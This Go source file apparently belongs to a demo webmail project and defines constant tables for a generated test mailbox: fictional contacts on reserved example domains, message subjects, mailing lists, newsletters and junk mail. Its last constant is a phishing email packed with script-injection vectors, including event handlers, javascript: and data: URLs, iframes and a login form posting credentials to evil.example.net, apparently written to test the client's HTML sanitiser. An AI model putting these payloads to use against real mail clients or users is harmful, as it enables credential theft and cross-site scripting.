package demo

// The constant tables the generated mailbox is made of. All domains are
// reserved example domains (RFC 2606) or their subdomains.

// Colleagues of the demo user, at the same company. Zones are in minutes.
var (
	linda  = person{"Linda Park", "linda.park@example.org", 60}
	jonas  = person{"Jonas Weber", "jonas.weber@example.org", 60}
	priya  = person{"Priya Natarajan", "priya.natarajan@example.org", 330}
	samuel = person{"Samuel Okafor", "samuel.okafor@example.org", 0}
	mei    = person{"Mei Lin", "mei.lin@example.org", 480}
	lucas  = person{"Lucas Silva", "lucas.silva@example.org", -180}
)

// Friends and other people.
var (
	marie  = person{"Marie Dubois", "marie.dubois@example.com", 60}
	tom    = person{"Tom Becker", "tom.becker@example.net", 60}
	bob    = person{"Bob Chen", "bob.chen@example.com", -480}
	sofia  = person{"Sofia Rossi", "sofia.rossi@example.com", 60}
	ahmed  = person{"Ahmed Hassan", "ahmed.hassan@example.net", 120}
	emma   = person{"Emma Johansson", "emma.johansson@example.com", 60}
	jose   = person{"José Müller-Łukasiewicz", "jose@example.com", 60}
	hanako = person{"田中 花子", "hanako.tanaka@jp.example.com", 540}
	ivan   = person{"Иван Петров", "ivan.petrov@ru.example.net", 180}
	hotel  = person{"Françoise Müller", "reception@hotel-geneve.example.com", 60}
	mokka  = person{"Café Mokka", "news@cafe-mokka.example.net", 60}
)

// Companies and robots.
var (
	northwind = person{"Northwind Outdoor", "newsletter@northwind.example.com", -300}
	contoso   = person{"Contoso Hosting", "billing@contoso.example.com", -300}
	backupBot = person{"Backup Robot", "backup@nas.example.org", 60}
	noreply   = person{"Example Accounts", "noreply@accounts.example.com", 0}
	gitBot    = person{"Example Git", "notifications@git.example.com", 0}
	ciBot     = person{"CI", "ci@build.example.org", 0}
	calendar  = person{"Team Calendar", "calendar@example.org", 60}
)

var colleagues = []person{linda, jonas, priya, samuel, mei, lucas}

var friends = []person{marie, tom, bob, sofia, ahmed, emma}

var colleagueSubjects = []string{
	"Quick question about the API docs",
	"Notes from today's stand-up",
	"Can you review my pull request?",
	"Lunch tomorrow?",
	"Updated roadmap draft",
	"Customer feedback summary",
	"Moving our 1:1 to Thursday",
	"Budget numbers for next quarter",
	"Access to the staging server",
	"Heads-up: deploy freeze on Friday",
	"Interview feedback for the frontend role",
	"New colleague starting on Monday",
	"Retro action items",
	"Conference talk proposal",
	"Database migration plan",
	"Accessibility audit results",
	"On-call handover",
	"Translation strings for the settings page",
	"Performance numbers after the cache change",
	"Holiday schedule",
}

var colleagueParagraphs = []string{
	"I had a look at the numbers this morning and they look better than expected. The cache change alone cut the median response time by about a third.",
	"Could you take a look before the end of the week? No rush, but I'd like to merge it before the release branch is cut.",
	"I've put the details in the shared document, feel free to comment directly there.",
	"We agreed to keep the scope small for now and revisit the rest after the launch.",
	"Let me know if Thursday at 10 works for you, otherwise I'm free most of Friday afternoon.",
	"The staging server is back up. I reset the credentials, the new ones are in the password manager.",
	"Two customers asked about exporting their data as CSV. I think it would be a quick win.",
	"Thanks again for your help with the migration yesterday, it went much smoother than last time.",
	"I'm out of office next Tuesday; Samuel will cover for me if anything urgent comes up.",
	"Attached are my notes from the call. The main open question is who owns the billing integration.",
	"The screen reader test found a few unlabeled buttons in the toolbar, nothing dramatic.",
	"Please remember to update the changelog when you merge.",
}

var friendSubjects = []string{
	"Weekend plans?",
	"Recipe you asked for",
	"Photos from the party",
	"Long time no see!",
	"Book recommendation",
	"Concert tickets",
	"Moving house next month",
	"Happy new job!",
	"Board game night",
	"Running club on Sunday",
}

var friendParagraphs = []string{
	"It was so good to see you last week! We should do that more often.",
	"I finally tried the recipe, and it turned out great. The trick is to let the dough rest overnight.",
	"Are you free on Saturday? The weather is supposed to be nice, we could go for a walk by the lake.",
	"I just finished that book you lent me. The ending! We need to talk about it.",
	"I have two extra tickets for the concert on the 14th, do you want them?",
	"We're moving at the end of the month, so if you have a free afternoon we'd appreciate a hand.",
	"Congratulations on the new job! I hope the first weeks are going well.",
	"Bring snacks, I'll take care of the drinks.",
}

// mailingList is a discussion list with a subject prefix.
type mailingList struct {
	name, id, addr string
	subjects       []string
}

var mailingLists = []mailingList{
	{"webmail-dev", "webmail-dev.lists.example.org", "webmail-dev@lists.example.org", []string{
		"Proposal: drop support for very old browsers",
		"Release 2.4 planning",
		"Flaky test in the IMAP idle suite",
		"How do you handle huge attachments?",
		"RFC: keyboard shortcuts",
		"Dark mode colour palette",
	}},
	{"hiking-club", "hiking-club.groups.example.net", "hiking-club@groups.example.net", []string{
		"Saturday hike: meeting point changed",
		"Lost and found: blue rain jacket",
		"New route suggestions for the summer",
		"Car pooling for the Alps trip",
	}},
	{"golang-users", "golang-users.lists.example.com", "golang-users@lists.example.com", []string{
		"Generics and method sets",
		"Best way to stream large files over HTTP?",
		"Context cancellation in worker pools",
		"ANN: a new release of the example toolkit",
	}},
}

var shopSubjects = []string{
	"Your order #%d has been received",
	"Your order #%d has shipped",
	"Your order #%d was delivered",
	"How did we do? Review your order #%d",
}

var shopNames = []person{
	{"Northwind Outdoor", "orders@northwind.example.com", -300},
	{"Fabrikam Books", "orders@fabrikam.example.net", 0},
	{"Tailspin Electronics", "shop@tailspin.example.com", 60},
}

var shopItems = []string{"Trail running shoes", "Rain jacket", "Paperback: The Quiet Harbour", "USB-C charger", "Headlamp", "Water bottle 750 ml"}

var gitSubjects = []string{
	"[acme/webmail] Pull request #%d: Fix folder list on small screens",
	"[acme/webmail] Issue #%d: Attachments over 10 MB fail to upload",
	"[acme/webmail] Pull request #%d: Add keyboard shortcut help",
	"[acme/webmail] Issue #%d: Dates shown in the wrong time zone",
	"[acme/infra] Pull request #%d: Bump the base image",
}

var sentSubjects = []string{
	"Re: Quick question about the API docs",
	"Slides from today",
	"Re: Lunch tomorrow?",
	"Draft of the announcement",
	"Re: Weekend plans?",
	"Thank you!",
	"Re: Budget numbers for next quarter",
	"Contract renewal",
	"Re: Board game night",
	"Meeting notes",
	"Re: Retro action items",
	"Your question about the export",
	"Re: Concert tickets",
	"Logo files",
	"Re: Access to the staging server",
	"Travel dates",
}

var junkSubjects = []string{
	"Congratulations!!! You have WON a $1,000 gift card",
	"Cheap meds, no prescription needed",
	"Re: your invoice (urgent)",
	"Make $$$ from home in 2 hours a day",
}

// newsletter is a sender of HTML newsletters.
type newsletter struct {
	from   person
	color  string
	topics []string
}

var newsletters = []newsletter{
	{person{"The Morning Brief", "brief@news.example.com", 0}, "#1a5fb4", []string{"Markets rally as rates hold", "The week in science", "Five charts that explain the housing market", "What to read this weekend", "Elections: what happens next"}},
	{person{"Tailspin Deals", "deals@tailspin.example.com", 60}, "#c01c28", []string{"Flash sale: headphones from 29 €", "Back to school: laptops and tablets", "Only today: free shipping on everything", "Your wishlist items are on sale", "Spring cleaning: smart vacuums"}},
	{person{"Go Weekly", "weekly@golang.example.net", 0}, "#00758d", []string{"Go Weekly #512: iterators in practice", "Go Weekly #513: profiling a real service", "Go Weekly #514: error handling patterns", "Go Weekly #515: testing with real peers", "Go Weekly #516: structured logging"}},
}

const hostileHTML = `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example.net/phish">
<script>alert('script in head')</script>
<style>body { background: url("javascript:alert('css')"); } .x { behavior: url(evil.htc); }</style>
<base href="https://evil.example.net/">
</head>
<body onload="alert('onload')">
<h1>Your account has been suspended</h1>
<p>Dear customer, unusual activity was detected. <a href="javascript:alert('link')">Verify your account</a> within 24 hours.</p>
<p><a href="https://evil.example.net/login" target="_blank">https://accounts.example.com/verify</a></p>
<img src="x" onerror="alert('onerror')" alt="logo">
<iframe src="https://evil.example.net/frame" width="400" height="300"></iframe>
<object data="https://evil.example.net/flash.swf"></object>
<embed src="https://evil.example.net/embed.swf">
<svg onload="alert('svg')"><circle r="10"></circle></svg>
<form action="https://evil.example.net/collect" method="post">
  <input type="text" name="user" placeholder="E-mail">
  <input type="password" name="password" placeholder="Password">
  <button type="submit" formaction="javascript:alert('button')">Log in</button>
</form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">Overlay</div>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">Open attachment</a>
<img src="https://track.example.net/pixel.gif?id=phish" width="1" height="1">
</body></html>
`
